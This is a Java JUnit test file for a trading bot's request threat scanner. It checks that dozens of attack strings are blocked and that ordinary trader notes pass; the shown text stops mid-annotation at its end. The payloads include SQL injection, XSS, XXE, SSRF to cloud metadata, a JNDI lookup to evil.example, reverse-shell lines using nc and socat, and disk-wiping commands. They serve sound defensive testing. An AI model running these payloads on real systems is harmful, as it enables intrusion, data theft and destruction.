package io.antbot.security.threat;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.vertx.core.json.JsonObject;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ThreatScannerTest {

  private final ThreatScanner scanner = new ThreatScanner(ThreatOptions.defaults());

  private static RequestDescription get(
      String path, String query, Map<String, List<String>> headers) {
    return new RequestDescription("GET", path, query, headers, "", "");
  }

  private static RequestDescription post(String body, String contentType) {
    return new RequestDescription(
        "POST",
        "/api/v1/orders",
        "",
        Map.of("content-type", List.of(contentType)),
        body,
        contentType);
  }

  @ParameterizedTest(name = "{0} in the query is blocked")
  @CsvSource(
      delimiter = '|',
      value = {
        "sqli               | id=1%27%20or%20%271%27%3D%271",
        "xss                | q=%3Cscript%3Ealert(1)%3C/script%3E",
        "path_traversal     | file=..%2F..%2F..%2Fetc%2Fpasswd",
        "command_injection  | host=127.0.0.1%3B%20cat%20/etc/passwd",
        "ldap_injection     | user=*)(uid=*))(|(uid=*",
        "xxe                | xml=%3C!DOCTYPE%20a%20[%3C!ENTITY%20x%20SYSTEM%20%22file:///etc/passwd%22%3E]%3E",
        "ssrf               | webhook=http://169.254.169.254/latest/meta-data/",
        "template_injection | name={{7*7}}",
        "jndi               | q=${jndi:ldap://evil.example/a}",
        "nosql_injection    | user[$ne]=admin"
      })
  @DisplayName("each attack category in a query string")
  void eachCategoryInTheQuery(String category, String query) {
    ScanResult result = scanner.scan(get("/api/v1/markets", query, Map.of()));
    assertThat(result.blocked()).isTrue();
    assertThat(result.matches()).extracting(m -> m.category().wireName()).contains(category);
    assertThat(result.matches()).allSatisfy(m -> assertThat(m.location()).startsWith("query"));
  }

  @Test
  @DisplayName("a clean trading request has no match at all")
  void cleanRequest() {
    RequestDescription request =
        new RequestDescription(
            "POST",
            "/api/v1/orders",
            "dry_run=true",
            Map.of(
                "user-agent",
                List.of("Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"),
                "accept",
                List.of("application/json, text/plain, */*")),
            "{\"symbol\":\"SOL/USDC\",\"side\":\"buy\",\"quantity\":\"1.25\",\"price\":142.37,"
                + "\"note\":\"O'Brien's idea -- buy the dip; stop @ 138.5 (tight!)\"}",
            "application/json");
    ScanResult result = scanner.scan(request);
    assertThat(result.matches()).isEmpty();
    assertThat(result.threat()).isFalse();
  }

  @Test
  @DisplayName(
      "long values shaped against this round's readers (backup suffixes, built PHP names, comments"
          + " before calls) are read once, without failing")
  void hostileShapesOfTheNewReaders() {
    // a backup suffix is taken off once: thousands of dashes are no chain of copies to follow
    assertThat(scanner.scan("../etc/passwd" + "-".repeat(100_000)).blocked()).isTrue();
    assertThat(scanner.scan("*/(".repeat(30_000) + "\"sys\".\"tem\"").threat()).isFalse();
    assertThat(scanner.scan("\"e\".\"val\" ".repeat(5_000)).threat()).isFalse();
    assertThat(scanner.scan("[system][0]".repeat(5_000) + "(x)('id')").blocked()).isTrue();
    // a server's directory is looked for in a path's first parts: a path of 50,000 parts is split
    // once, into at most twelve
    assertThat(scanner.scan("etc/apache2/" + "a/".repeat(50_000) + "x.conf").blocked()).isTrue();
    assertThat(scanner.scan("etc/antbot/" + "a/".repeat(50_000) + "x.conf").threat()).isFalse();
  }

  @Test
  @DisplayName(
      "JSON bodies are scanned value by value, keys included, with the JSON path as location")
  void jsonBody() {
    ScanResult result =
        scanner.scan(
            post(
                "{\"orders\":[{\"note\":\"x' union select password from users--\"}],"
                    + "\"filter\":{\"owner\":{\"$gt\":\"\"}}}",
                "application/json"));
    assertThat(result.matches())
        .extracting(ScanResult.Match::location)
        .contains("body:$.orders[0].note", "body:$.filter.owner.$gt(key)");
    assertThat(result.blocked()).isTrue();
  }

  @Test
  @DisplayName("form bodies are split into decoded values")
  void formBody() {
    ScanResult result =
        scanner.scan(
            post(
                "name=ok&bio=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
                "application/x-www-form-urlencoded"));
    assertThat(result.matches()).extracting(ScanResult.Match::location).containsOnly("body:bio");
  }

  @Test
  @DisplayName("XML bodies are read whole and then element by element, attributes and CDATA too")
  void xmlBody() {
    for (String body :
        List.of(
            "<order><note>7;select passwd</note></order>",
            "<?xml version=\"1.0\"?><order note='7;select passwd'/>",
            "<order><note><![CDATA[7;select passwd]]></note></order>")) {
      assertThat(scanner.scan(post(body, "application/xml")).matches())
          .as(body)
          .extracting(ScanResult.Match::location)
          .contains("body:xml");
    }
    assertThat(
            scanner
                .scan(post("<order><note>select the pair first</note></order>", "text/xml"))
                .matches())
        .isEmpty();
  }

  @Test
  @DisplayName("headers are scanned except credentials, and internal URLs count only in arguments")
  void headers() {
    ScanResult agent =
        scanner.scan(get("/", "", Map.of("user-agent", List.of("${jndi:ldap://x/a}"))));
    assertThat(agent.matches())
        .extracting(ScanResult.Match::location)
        .contains("header:user-agent");
    ScanResult credentials =
        scanner.scan(get("/", "", Map.of("authorization", List.of("Bearer ' or 1=1--"))));
    assertThat(credentials.matches()).isEmpty();
    ScanResult origin =
        scanner.scan(get("/", "", Map.of("origin", List.of("http://localhost:3000"))));
    assertThat(origin.matches()).isEmpty();
    ScanResult argument = scanner.scan(get("/", "callback=http://localhost:3000/hook", Map.of()));
    assertThat(argument.matches())
        .extracting(ScanResult.Match::rule)
        .containsExactlyInAnyOrder("ssrf-internal-url", "ssrf-internal-host");
  }

  @Test
  @DisplayName("detect-only mode scores and reports a threat but does not block it")
  void detectOnly() {
    scanner.update(ThreatOptions.fromJson(new JsonObject().put("mode", "detect-only")));
    ScanResult result = scanner.scan("1 union select password from users");
    assertThat(result.threat()).isTrue();
    assertThat(result.blocked()).isFalse();
    assertThat(result.toJson().getBoolean("threat")).isTrue();
  }

  @Test
  @DisplayName("scores add up against the threshold; raising it lets a single warning through")
  void anomalyScoring() {
    // alert(1) and alert`1` are threats on their own since xss-script-context reads script calls;
    // a CSS expression outside a style attribute is a weak signal left
    ScanResult warning = scanner.scan("width: expression(1)");
    assertThat(warning.score()).isEqualTo(3);
    assertThat(warning.threat()).isFalse();
    ScanResult several = scanner.scan("<img src=x onerror=alert(document.cookie)>");
    assertThat(several.score()).isEqualTo(5 + 5 + 4 + 3);
    scanner.update(ThreatOptions.fromJson(new JsonObject().put("threshold", 20)));
    assertThat(scanner.scan("<img src=x onerror=alert(document.cookie)>").threat()).isFalse();
  }

  @Test
  @DisplayName("rules can be added and switched off from config, live")
  void extraAndDisabledRules() {
    JsonObject section =
        new JsonObject()
            .put(
                "rules",
                List.of(
                    Map.of(
                        "id",
                        "custom-internal-symbol",
                        "category",
                        "sqli",
                        "score",
                        5,
                        "pattern",
                        "\\bsecret_pair\\b",
                        "anchors",
                        List.of("secret_pair"))))
            .put("disabled_rules", List.of("nosql-operator"));
    scanner.update(ThreatOptions.fromJson(section));
    assertThat(scanner.scan("SECRET_PAIR").matches())
        .extracting(ScanResult.Match::rule)
        .containsExactly("custom-internal-symbol");
    assertThat(scanner.scan("user[$ne]=x").threat()).isFalse();
  }

  @Test
  @DisplayName("paranoia level 2 switches on the stricter rules")
  void paranoia() {
    assertThat(scanner.scan("please select name from the list").matches()).isEmpty();
    scanner.update(ThreatOptions.fromJson(new JsonObject().put("paranoia_level", 2)));
    assertThat(scanner.scan("please select name from the list").matches())
        .extracting(ScanResult.Match::rule)
        .containsExactly("sqli-keyword-sequence");
  }

  @Test
  @DisplayName("a disabled scanner finds nothing; invalid options are refused with every problem")
  void disabledAndInvalid() {
    scanner.update(ThreatOptions.fromJson(new JsonObject().put("enabled", false)));
    assertThat(scanner.scan("' or 1=1--").threat()).isFalse();
    assertThatThrownBy(
            () ->
                scanner.update(
                    ThreatOptions.fromJson(
                        new JsonObject().put("threshold", 0).put("mode", "loud"))))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessage(
            "security.threats.mode: expected one of block, detect-only, got \"loud\"; "
                + "security.threats.threshold: expected an integer from 1 to 1000, got 0");
  }

  @Test
  @DisplayName("the reply body names rules and categories, never the scanned value")
  void replyShape() {
    JsonObject json = scanner.scan("'; drop table users; --").toJson();
    assertThat(json.fieldNames())
        .containsExactlyInAnyOrder("threat", "blocked", "score", "threshold", "matches");
    assertThat(json.encode()).doesNotContain("drop table");
  }

  @Test
  @DisplayName(
      "values found clean are remembered, attacks never: repeated requests get the same verdicts")
  void rememberedCleanValues() {
    Map<String, List<String>> clean =
        Map.of(
            "host",
            List.of("api.example:8001"),
            "user-agent",
            List.of("antbot-bot/1.0"),
            "accept",
            List.of("application/json"));
    for (int i = 0; i < 3; i++) {
      assertThat(scanner.scan(get("/api/v1/config/trading.max_position_size", "", clean)).matches())
          .isEmpty();
    }
    // the same clean values beside an attack: the attack is still found, each time
    Map<String, List<String>> withAttack =
        Map.of(
            "host",
            List.of("api.example:8001"),
            "user-agent",
            List.of("antbot-bot/1.0"),
            "referer",
            List.of("<script>alert(1)</script>"));
    for (int i = 0; i < 3; i++) {
      ScanResult result =
          scanner.scan(get("/api/v1/config/trading.max_position_size", "", withAttack));
      assertThat(result.blocked()).as("request %d", i).isTrue();
      assertThat(result.matches())
          .extracting(ScanResult.Match::location)
          .containsOnly("header:referer");
    }
  }

  @Test
  @DisplayName("a value not evaluated against a rule that already matched is not taken as clean")
  void secondCopyOfAnAttackIsNotRemembered() {
    String attack = "<script>alert(1)</script>";
    // the second header is not evaluated against the XSS rules: they matched the first one already
    scanner.scan(
        get("/api/v1/markets", "", Map.of("referer", List.of(attack), "x-note", List.of(attack))));
    ScanResult alone = scanner.scan(get("/api/v1/markets", "", Map.of("x-note", List.of(attack))));
    assertThat(alone.blocked()).isTrue();
    assertThat(alone.matches())
        .extracting(ScanResult.Match::location)
        .containsOnly("header:x-note");
  }

  @Test
  @DisplayName("new rules forget the values found clean under the old ones")
  void newRulesForgetCleanValues() {
    Map<String, List<String>> headers = Map.of("x-strategy", List.of("martingale-double-down"));
    assertThat(scanner.scan(get("/api/v1/markets", "", headers)).matches()).isEmpty();
    scanner.update(
        ThreatOptions.fromJson(
            new JsonObject()
                .put(
                    "rules",
                    List.of(
                        Map.of(
                            "id",
                            "no-martingale",
                            "category",
                            "sqli",
                            "score",
                            5,
                            "pattern",
                            "martingale",
                            "anchors",
                            List.of("martingale"))))));
    ScanResult after = scanner.scan(get("/api/v1/markets", "", headers));
    assertThat(after.blocked()).isTrue();
    assertThat(after.matches()).extracting(ScanResult.Match::rule).containsExactly("no-martingale");
  }

  @Test
  @DisplayName(
      "trading notes with SQL and shell words in prose pass; the same words written as an attack are blocked")
  void proseNotesPassAttacksDoNot() {
    String notes =
        new JsonObject()
            .put("symbol", "BTC/USDC")
            .put("side", "buy")
            .put("note", "\"select\" and \"drop\" are only words")
            .put("memo", "please select the drop-down and cat the file; then run it")
            .put("plan", "kill the bot if drawdown > 5%; restart after review")
            .put(
                "path",
                "saved to C:\\Users\\trader\\Documents\\fills.csv, see https://example.com/a?b=1")
            .encode();
    assertThat(scanner.scan(post(notes, "application/json")).matches()).isEmpty();
    String attacks =
        new JsonObject()
            .put("note", "x'; drop table orders; --")
            .put("memo", "fills.csv; cat /etc/passwd")
            .encode();
    assertThat(scanner.scan(post(attacks, "application/json")).matches())
        .extracting(ScanResult.Match::rule)
        .contains("sqli-token-shape", "cmd-shell-grammar");
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "handler on a custom tag          | <trade-card tabindex=1 onfocusin=x()>",
        "handler on details, no space     | <details/open/ontoggle=go()>",
        "form hijacked by formaction      | <button formaction=//evil.example/>go</button>",
        "markup rendered from srcdoc      | <iframe srcdoc=&lt;p&gt;hi>",
        "an XSLT instruction              | <xsl:value-of select=\"x\"/>",
        "7-bit markup, raw                | ¼body onpageshow=go()¾",
        "7-bit markup, URL-encoded        | %BCscript%BEgo()%BC/script%BE",
        "7-bit close after a plain open   | <script%BEgo()</script%BE",
        "7-bit open with a plain close    | %BCscript>go()%BC/script>",
        "7-bit opening alone              | %BCscript",
        "an escaped lone bracket          | &#x0003C",
        "a JavaScript-escaped bracket     | \\u003C",
        "a doubly URL-encoded bracket     | %253C",
        "tagged template call             | prompt`x`",
        "optional call                    | confirm?.(2)",
        "parenthesised sink called        | (prompt)(2)",
        "sink handed over as a callback   | [2].forEach(confirm)",
        "string-keyed member of this      | this['con'+'firm'](2)",
        "timer with a variable            | setInterval(code)",
        "dialog with a one-letter name    | confirm(x)",
        "a tag name ended by a plus       | <base+href=//evil.example/>",
        "DOM member only script names     | x.parentNode.removeChild(x)",
        "JSFuck                           | (!![]+[])[+!+[]]",
        "CSS import                       | @import url(//evil.example/x.css);",
        "handler name alone               | onPointerLockChange",
        "Flash trigger name alone         | FSCommand",
        "IE behaviour import              | <?import namespace=t implementation=#default#time2>",
        "function applied via a template  | [].map.call`${confirm}2`",
        "sink called through call()       | prompt.call(null,2)",
        "handler assigned in a block      | {onerror=prompt}throw 2",
        "markup that fetches on render    | <img src=//evil.example/p.gif>",
        "a background fetched             | <table background=//evil.example/b.png>",
        "CSS-escaped script URL           | background:url(\\6a avascript:go())",
        "markup hidden in CDATA           | <![CDATA[<]]>iframe",
        "foreign namespace markup         | <a xlink:href=//evil.example>x</a>",
        "handler name with junk after it  | <body onpageshow!#$%&()*=go()>",
        "scheme split by an escaped tab   | java&#x09;script:go()",
        "JSFuck atom                      | !![]",
        "JSFuck atom, form-encoded        | !+[]",
        "SVG data URL                     | data:image/svg+xml;base64,PHN2Zz4=",
        "UTF-7 data URL                   | data:text/plain;charset=utf-7,+ADw-"
      })
  @DisplayName("XSS classes beyond the classic tags are blocked")
  void xssClasses(String what, String value) {
    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "onload as a verb            | onload the position before close",
        "formatting markup           | <b>bold</b> note",
        "a link                      | <a href=\"https://www.kraken.com/prices\">prices</a>",
        "comparisons                 | a < b and c > d",
        "fractions                   | buy ¼ now and ½ on the dip, keep ¾ of the cash",
        "a fraction before a unit    | ¼bps fee, ¾ of it rebated",
        "a bracket and a fraction    | size < 2, keep ¾ > 1",
        "a plain comparator          | <",
        "a form-encoded comparator   | %3C",
        "prose with a bracket        | this [link] explains the fee tiers",
        "an abbreviation in brackets | the eval (v2) looks good",
        "symbols on a keyboard       | [] ( ) ! + are the keys on the macro pad",
        "exclamations and brackets   | wow!! [] is what the bot returned",
        "a Markdown image            | ![](chart.png) shows the breakout",
        "an image data URL           | data:image/png;base64,iVBORw0KGgo=",
        "a data URL's type in prose  | data:image/png;base64 avatars are fine on the profile page",
        "a data URL with a charset   | data:text/plain;charset=utf-8 notes render as text"
      })
  @DisplayName("trader prose near the new XSS classes passes")
  void xssClassesProse(String what, String value) {
    assertThat(scanner.scan(value).threat()).as(what).isFalse();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "case when with constants          | 7 and (case when 4=4 then 7 else 0 end)",
        "case when over an SQL function    | x' and case when ascii(mid(user(),1,1))>64 then 1 end--",
        "if() with a constant condition    | 2 and if(5>3,sleep(2),0)",
        "iif() over an SQL function        | iif(len(db_name())>3,1,0)",
        "literal closed, statement ended   | trader';",
        "catalogue name alone              | pg_catalog.pg_roles",
        "Access catalogue                  | msysrelationships",
        "server variable                   | @@datadir",
        "info function as the whole value  | current_user()",
        "scientific notation glued         | 2.5e3union select 9",
        "clause glued to an exponent       | 7e0having 2=2",
        "dot-e number                      | 3.e,",
        "JSON containment                  | '{\"r\":\"admin\"}' <@ data",
        "JSON key-exists operator          | '[\"a\"]' ?& array['a']",
        "JSON function over a JSON literal | jsonb_path_query('{\"a\":[1]}', '$.a')",
        "full-text match probe             | match(body) against ('+x' in boolean mode)",
        "UDF from a shared object          | create function shell returns string soname 'lib.so'",
        "integer boundary                  | 4294967296",
        "float that hangs parsers          | 2.2250738585072012e-308",
        "characters concatenated           | chr(97)||chr(98)",
        "one SQL-only call on constants    | elt(2,'a','b')",
        "character set switched            | alter table t convert to character set latin1",
        "a quoted phrase ended             | foo bar';",
        "literal reopened on a number      | ' OR '7",
        "literal reopened on a comparison  | 'or'2=2",
        "niladic function compared         | 5 or 2=session_user--",
        "statement after a closed literal  | '); truncate",
        "statement glued to a number       | 7;select passwd",
        "describe after a closed literal   | ');desc accounts",
        "select item aliased before FROM   | 9) as n from accounts",
        "closed literal matched by regexp  | x' regexp '^adm",
        "three-part SQL Server name        | shop.dbo.accounts",
        "Oracle tablespace                 | sysaux",
        "empty executable comment          | 5/*!*/",
        "optimiser hint                    | select /*+ index(t i) */ 1",
        "MERGE with a source query         | merge into t using (select 1) s on (1=1)",
        "EXECUTE IMMEDIATE                 | execute immediate \"drop table t\"",
        "MATCH over a column list          | match a,b against ('x')",
        "UDF declared                      | create function f(x int) returns int",
        "JSON function given a path        | json_extract(doc,'$.role')='admin'",
        "SQL-only function name            | group_concat(table_name)"
      })
  @DisplayName("SQL injection classes beyond the grammar after a literal are blocked")
  void sqlClasses(String what, String value) {
    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "case in prose                 | in case when rsi < 30 then buy 1 lot else wait",
        "a spreadsheet formula         | if(rsi < 30, 1, 0) as the entry signal",
        "another formula               | use iif(close > open, 1, -1) for the candle colour",
        "a size in feet                | DRESS WITH HAT 18';",
        "quoted words                  | he said 'buy'; I said 'wait'",
        "numbers in words              | 1e5 union members marched past the exchange",
        "a list of exponents           | buy 1e5, sell 2e5",
        "match in prose                | Match(orders) against the book at the close",
        "a function named in prose     | user() was mentioned in the docs",
        "an ordinary large number      | 21474836",
        "a limit in prose              | the limit is 4294967 units per day",
        "a spreadsheet call            | concat('BTC','USDT')",
        "an indicator call             | sma(200)",
        "alter in prose                | alter table settings in the UI before the open",
        "quoted keywords in prose      | 'or' 1 more lot",
        "a numbered list               | 1) select the pair, 2) set the size",
        "a list with semicolons        | 1; select the best, 2; drop the rest",
        "as in prose                   | (see note 1) as planned from Monday",
        "an order type                 | execute immediate-or-cancel orders at the open",
        "merge in prose                | merge the two books using (mid) prices",
        "returns in prose              | the function returns the mid price, not the last",
        "a custom indicator            | avg_volume(btc, 20) over the last week",
        "a fund's name                 | northwind capital and tempest fund are counterparties"
      })
  @DisplayName("trader prose near the new SQL classes passes")
  void sqlClassesProse(String what, String value) {
    assertThat(scanner.scan(value).threat()).as(what).isFalse();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "a PHP-only function name probed   | proc_open",
        "a superglobal named by a string   | ${\"_SERVER\"}['argv']",
        "an include without parentheses    | include_once 'x/up.php'",
        "a constant naming a function      | define('run', 'passthru'); run('ls');",
        "a signed length in an object      | O:+4:\"Shop\":0:{}",
        "a zlib stream wrapper             | zlib://archive.gz#x",
        "a php.ini directive family        | assert.callback=run",
        "a session directive               | session.save_path=/var/www/up"
      })
  @DisplayName("PHP injection classes beyond calls are blocked")
  void phpClasses(String what, String value) {
    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "an OS release file                  | /etc/lsb-release",
        "a file in a directory of secrets    | /etc/ssl/private/server.key",
        "a home-directory file named alone   | .viminfo",
        "a hex-spelled parent step           | 0x2e0x2e0x2fsecret",
        "a program by its bin path           | /usr/sbin/nc",
        "a shell alias for a command         | alias ls='rm -rf /'",
        "a history recall                    | ;!-2",
        "a program glued to a separator      | ;ps aux",
        "a command after a leading line feed | ~\nid~",
        "ANSI-C quoted escapes as a program  | ;$'\\x69\\x64' x",
        "a Windows switch                    | ipconfig /all",
        "a verb of reg with a key            | reg query hklm\\software",
        "a Windows admin tool with arguments | wmic os get caption",
        "a file command given a drive        | dir c:\\",
        "a PHP-only name beside code         | x=shell_exec&y=1",
        "a script's arguments as code        | $argv[1]",
        "a PHP variable of the old names     | $http_response_header",
        "a variable called through an index  | $a[0]('id')",
        "a variable called, spaced           | $f ('id')",
        "an include of a script              | require 'x/up.php'",
        "an uploaded server configuration    | filename=\".user.ini\"",
        "an uploaded framework configuration | filename=\"config_prod.yml\"",
        "a CMS plug-in's PHP block           | [php]echo 1;[/php]",
        "a Node file-system call             | fs.unlinkSync('x')",
        "a child_process function            | spawn('ls')",
        "an endless loop on a constant       | while(!0){}",
        "the process reached by brackets     | process['mainModule']",
        "a serialized function in Base64     | eyJ4IjoiXyQkTkRfRlVOQyQkX2Z1bmN0aW9uKCl7fSgpIn0=",
        "a prototype reached in JSON         | {\"constructor\":{\"prototype\":{\"a\":1}}}",
        "a cloud metadata host               | http://instance-data/latest/"
      })
  @DisplayName("RCE, LFI, PHP and Node classes of CRS families 930-934 are blocked")
  void crsFamilyClasses(String what, String value) {
    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "an /etc style config             | the /etc style config of the exchange is a mess",
        "a home directory word            | the .bash_history of the analyst box was wiped",
        "a framework config file named    | the limits live in config_prod.yml, see routing.yml too",
        "a bin folder                     | the bin/ folder holds the exports, see bin/daily.csv",
        "an alias of a symbol             | alias xbt=btc on the old venue",
        "an exclamation before a number   | BTC fell 3% today!-1 more day like this and we cut",
        "cat in prose                     | run the report then cat the output into the sheet",
        "net user in prose                | net user count grew 4% on the app",
        "reg query in prose               | reg query volume is up on the new form",
        "a drive letter in prose          | dir C: is where the exports used to go",
        "php and eval in prose            | our php dashboard shows the fills, the eval period ends Friday",
        "a PHP name in a sentence         | shell_exec is a PHP thing, our bot is Java",
        "$argv in a sentence              | $argv of the script is the symbol list",
        "tickers with a note              | $f (fees) of 5 bps apply",
        "include and require in prose     | include 'fees' in the report and require \"sign-off\" from risk",
        "fork and spawn in prose          | spawn a second bot for ETH, fork it later",
        "a while in prose                 | while (this) lasts, keep the hedge on",
        "a constructor meeting            | the constructor: {prototype} meeting is at 3",
        "a JWT opening                    | eyJ is how every JWT starts, not a problem"
      })
  @DisplayName("trader prose near the new RCE, LFI, PHP and Node classes passes")
  void crsFamilyClassesProse(String what, String value) {
    assertThat(scanner.scan(value).threat()).as(what).isFalse();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "a wrapper with an option of its own   | sudo -l",
        "a wrapper's option, then a program    | sudo -u root id",
        "a program given a top directory       | ls /etc",
        "a word-program on the root and options| find / -perm -4000",
        "a word-program with options alone     | ps -ef",
        "a signal and a process id             | kill -9 1",
        "an option and an address              | ping -c 1 127.0.0.1",
        "devices mounted                       | mount /dev/sda1 /mnt",
        "a peer address and a port             | nc 10.0.0.1 4444",
        "a user at an address                  | ssh root@10.0.0.1",
        "socat addresses                       | socat tcp:10.0.0.1:80 exec:sh",
        "a BusyBox applet                      | busybox nc 10.0.0.1 80",
        "operands given device paths           | dd if=/dev/zero of=/dev/sda",
        "an administration tool, plain words   | systemctl stop firewalld",
        "an account made                       | useradd eve",
        "an AppArmor profile switched off      | aa-disable php-fpm",
        "a program and an address, chained     | x; ping 10.0.0.1",
        "an unset variable before the program  | x;$u ls",
        "a word-program and an address, encoded| ping%2010.0.0.1"
      })
  @DisplayName("command lines CRS reads as direct Unix command execution are blocked")
  void directCommandClasses(String what, String value) {
    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "long/short ratio                 | ls ratio up today",
        "a wrapper in a joke              | sudo make me a sandwich",
        "a word-program, then a sentence  | top -5 pairs by volume",
        "an option-like word, then words  | date -u please",
        "an address in a sentence         | ping 10.0.0.1 is slow from the office",
        "a host named after a separator   | Primary; host 10.0.0.1 down",
        "an e-mail after a separator      | email ops; cc risk@example.com",
        "an administration tool named     | useradd is the tool ops uses",
        "a cron table in a sentence       | crontab runs at midnight",
        "a unit restarted, in prose       | systemctl restart fixed it",
        "a tool called a hammer           | killall is a big hammer",
        "a bot's kill switch              | killall bots",
        "an address with a port in prose  | the server at 192.168.1.10:8080 is up",
        "a price before a program name    | price;$5 ls",
        "a ticker variable in a note      | x; $BTC up"
      })
  @DisplayName("trader prose near the direct-command classes passes")
  void directCommandClassesProse(String what, String value) {
    assertThat(scanner.scan(value).threat()).as(what).isFalse();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '^',
      quoteCharacter = '~',
      value = {
        "a single-quoted string broken out of  ^ ';location=\"//evil.com\"//",
        "a double-quoted one, the top window   ^ \";top.location.href='//x'//",
        "an operator, a decoded target         ^ '-location=atob(`Ly9ldmls`)-'",
        "the window's name as the target       ^ \";location=name//",
        "a template literal's interpolation    ^ ${location=\"//evil.com\"}"
      })
  @DisplayName("a script string broken out of into a navigation of the page is blocked")
  void navigationAfterBreakout(String what, String value) {
    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '^',
      quoteCharacter = '~',
      value = {
        "a quoted word and a location    ^ the 'location' = HQ",
        "settings in prose               ^ location=London; desk=FX",
        "a bare word assigned            ^ \"office\";location=tokyo",
        "an operator in prose            ^ set 'desk' - location = NY"
      })
  @DisplayName("locations in prose and settings pass")
  void navigationAfterBreakoutProse(String what, String value) {
    assertThat(scanner.scan(value).threat()).as(what).isFalse();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '^',
      quoteCharacter = '~',
      value = {
        "a login cut off by a comment        ^ admin'--",
        "and the parenthesis it closes        ^ admin')--",
        "two parentheses and a hash comment   ^ admin'))#"
      })
  @DisplayName(
      "a login name closed early, with the parentheses it closes, then a comment, is blocked")
  void loginClosedEarly(String what, String value) {
    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '^',
      quoteCharacter = '~',
      value = {
        "a name and a desk, then a dash  ^ smith (sales)--",
        "an apostrophe and an aside      ^ O'Brien (desk)--",
        "a contraction closing an aside  ^ it's done)--"
      })
  @DisplayName("names with asides and trailing dashes pass")
  void loginClosedEarlyProse(String what, String value) {
    assertThat(scanner.scan(value).threat()).as(what).isFalse();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '^',
      quoteCharacter = '~',
      value = {
        "a charset switch after a string  ^ '; set names utf8 --",
        "character set, spaced            ^ x' ; set character set utf8 --",
        "a quoted charset                 ^ x'; set charset 'latin1'--",
        "a user variable after a number   ^ 1; set @a=1",
        "an assignment with :=            ^ '; set @x:=1#"
      })
  @DisplayName("a stacked SQL session statement (charset switch, variable) is blocked")
  void stackedSetStatement(String what, String value) {
    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '^',
      quoteCharacter = '~',
      value = {
        "a field set in a note       ^ sold 10; set price = 10",
        "names and a preposition     ^ done; set names for the desk",
        "two names                   ^ bought; set names alice bob",
        "advice about a client       ^ set names utf8 in your client",
        "a handle after set          ^ closed 5; set @alice to review"
      })
  @DisplayName("notes that set things pass")
  void stackedSetStatementProse(String what, String value) {
    assertThat(scanner.scan(value).threat()).as(what).isFalse();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '^',
      quoteCharacter = '~',
      value = {
        "any element, high bit set          ^ ¼test¾test(¢XSS¢)¼/test¾",
        "escaped bytes of it                ^ \\xbctest\\xbetest(\\xa2XSS\\xa2)\\xbc/test\\xbe",
        "UTF-8 bytes, the lead bytes kept   ^ \\xc2\\xbcscript\\xc2\\xbealert(1)\\xc2\\xbc/script\\xc2\\xbe",
        "other lead bytes                   ^ \\xd0\\xbcb\\xd0\\xbex\\xd0\\xbc/b\\xd0\\xbe"
      })
  @DisplayName(
      "an element spelled in the US-ASCII malformed encoding is blocked, whatever its name")
  void usAsciiElement(String what, String value) {
    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '^',
      quoteCharacter = '~',
      value = {
        "fractions of a point    ^ tightened ¼pt, widened ¾pt",
        "fractions of a lot      ^ ¼ lot today, ¾ tomorrow",
        "a fraction in brackets  ^ ¼lot¾ of the book",
        "two pairs of fractions  ^ buy ¼ and sell ¾, ¼ again ¾"
      })
  @DisplayName("fractions in prose pass")
  void usAsciiElementProse(String what, String value) {
    assertThat(scanner.scan(value).threat()).as(what).isFalse();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '^',
      quoteCharacter = '~',
      value = {
        "pieces joined into a variable      ^ $y = 'sys'.'tem';($y)('uname');",
        "pieces joined into a constant      ^ define('x', 'sys' . 'tem');(x)/* c */('uname');",
        "pieces inside an array             ^ define('z', [['sys' .'tem']]);(z)[0][0]('uname');",
        "a bare name in an array, indexed   ^ (  [  system  ][  0  ])  {/* c */0}  (  ls  );",
        "exec from double-quoted pieces     ^ $f=\"ex\".\"ec\";($f)(\"id\");"
      })
  @DisplayName("a PHP function name built aside and called later through an expression is blocked")
  void phpNameBuiltAside(String what, String value) {
    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '^',
